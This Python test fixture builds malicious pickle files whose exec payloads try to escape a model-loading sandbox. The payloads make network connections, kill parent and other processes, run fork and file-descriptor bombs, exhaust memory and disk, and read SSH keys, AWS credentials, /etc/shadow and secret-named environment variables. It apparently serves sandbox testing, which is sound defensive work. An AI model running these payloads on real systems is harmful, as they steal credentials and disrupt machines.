"""Pickles whose payload tries to get out of the sandbox rather than past the allow-list: reach the
network, write outside the one writable folder, signal or outlive the parent, exhaust memory, CPU or
disk, read secrets. Each creates ``marker`` (or a sibling named after it) only if its attempt works.

With the static checks on, every one is refused before loading (``builtins.exec`` is not on any
allow-list); ``tests/test_sandbox.py`` loads them with the checks off to prove the sandbox alone
holds them. Knobs the test sets: ``PACKAGER_TEST_LISTEN_PORT`` (a loopback port it listens on),
``PACKAGER_TEST_UNIX_SOCKETS`` (unix sockets it listens on, ``:``-separated: in the current folder, /tmp,
/run) and ``PACKAGER_TEST_READ_FILES`` (files outside the model's paths: in the home and current folders).
"""
from __future__ import annotations

import pickle
from pathlib import Path

from tests.attacks.build_corpus import Attack, _Reduce

SLEEPER = "31337.5"  # argument of the process a payload tries to leave behind: the test looks for it afterwards


def home_marker(marker: str) -> Path:
    return Path.home() / f"{Path(marker).name}.home"


def tmp_marker(marker: str) -> str:
    return f"/tmp/{Path(marker).name}.tmp"


def _payloads(marker: str) -> dict[str, str]:
    touch = f"open({marker!r}, 'w').write('escaped')"
    return {
        "connect_loopback": f"""
import os, socket
port = int(os.environ.get('PACKAGER_TEST_LISTEN_PORT', '1'))
socket.create_connection(('127.0.0.1', port), timeout=3).sendall(b'escaped')
{touch}
""",
        "connect_outside": f"""
import socket
socket.create_connection(('1.1.1.1', 443), timeout=3)
{touch}
""",
        "write_home": f"""
open({str(home_marker(marker))!r}, 'w').write('escaped')
{touch}
""",
        "write_tmp": f"""
open({tmp_marker(marker)!r}, 'w').write('escaped')
""",
        "write_output_parent": f"""
import os
# the writable mount is the workspace beside the output; its parent is the user's folder
for line in open('/proc/self/mountinfo'):
    fields = line.split()
    point, options = fields[4], fields[5]
    if options.startswith('rw') and point not in ('/tmp', '/dev', '/proc') and not point.startswith(('/dev/', '/proc/', '/sys')):
        target = os.path.join(os.path.dirname(point), {Path(marker).name + '.parent'!r})
        open(target, 'w').write('escaped')
        {touch}
""",
        "remount_root_rw": f"""
import os
os.system('mount -o remount,rw / && touch {marker}')
{touch}
""",
        "kill_parent": """
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
for pid in os.listdir('/proc'):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
""",
        "kill_visible_pytest": f"""
import os, signal
for pid in os.listdir('/proc'):
    try:
        cmd = open(f'/proc/{{pid}}/cmdline', 'rb').read()
    except OSError:
        continue
    if b'pytest' in cmd or b'packager.cli' in cmd:
        os.kill(int(pid), signal.SIGKILL)
        {touch}
""",
        "outlive_child": f"""
import os, subprocess
if os.fork() == 0:
    os.setsid()
    subprocess.Popen(['sleep', '{SLEEPER}'], start_new_session=True, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    os._exit(0)
raise ValueError('left a sleeper behind')
""",
        "allocate_30gb": f"""
block = bytearray(30 * 2**30)
{touch}
""",
        "spin_forever": """
while True:
    pass
""",
        "write_50gb_file": f"""
with open('/tmp/big', 'wb') as fh:
    fh.seek(50 * 2**30)
    fh.write(b'x')
{touch}
""",
        "read_secrets": """
import os, glob
found = []
home = os.path.expanduser('~')
for pattern in [home + '/.ssh/*', home + '/.aws/*', '/root/.ssh/*', os.environ.get('PACKAGER_HOME', home + '/.packager') + '/*',
                '/etc/shadow']:
    for path in glob.glob(pattern):
        try:
            found.append(open(path, errors='replace').read()[:200])
        except OSError:
            pass
for path in os.environ.get('PACKAGER_TEST_READ_FILES', '').split(':') + ['/etc/hostname', '/etc/machine-id']:
    try:
        found.append(open(path, errors='replace').read()[:60])
    except OSError:
        pass
# (exec'd without globals: a comprehension sees no name this code defines, so the words are inline)
found += [f'{k}={v[:60]}' for k, v in os.environ.items() if any(w in k for w in ('TOKEN', 'SECRET', 'PASSWORD', 'PWD', '_PAT',
                                                                                'CONNECTION', 'URI', 'KEY'))]
raise ValueError('stolen: ' + ' | '.join(found).replace(chr(10), ' '))
""",
        "connect_unix_sockets": f"""
import os, socket
for path in os.environ.get('PACKAGER_TEST_UNIX_SOCKETS', '').split(':'):
    try:
        client = socket.socket(socket.AF_UNIX)
        client.settimeout(2)
        client.connect(path)
        client.sendall(b'escaped')
        {touch}
    except OSError:
        pass
""",
        "fork_past_the_cap": f"""
import os, time
forks = 0
for _ in range(3000):
    try:
        if os.fork() == 0:
            time.sleep(10)
            os._exit(0)
        forks += 1
    except OSError:
        break
if forks >= 3000:
    {touch}
raise ValueError(f'forked {{forks}}')
""",
        "fill_dev_shm": f"""
written = 0
try:
    with open('/dev/shm/fill', 'wb') as fh:
        for _ in range(1024):
            fh.write(b'x' * 2**20)
            fh.flush()
            written += 1
except OSError:
    pass
if written >= 1024:
    {touch}
raise ValueError(f'shm MiB {{written}}')
""",
        "fd_bomb": f"""
files = [open('/dev/null') for _ in range(1_000_000)]
{touch}
""",
    }


def build(out: Path, marker: str, benign: Path) -> list[Attack]:
    attacks = []
    for name, code in _payloads(marker).items():
        path = out / f"escape_{name}.pkl"
        path.write_bytes(pickle.dumps(_Reduce(exec, code), protocol=4))
        attacks.append(Attack(path.name, path, "either", runs_code=True))
    return attacks
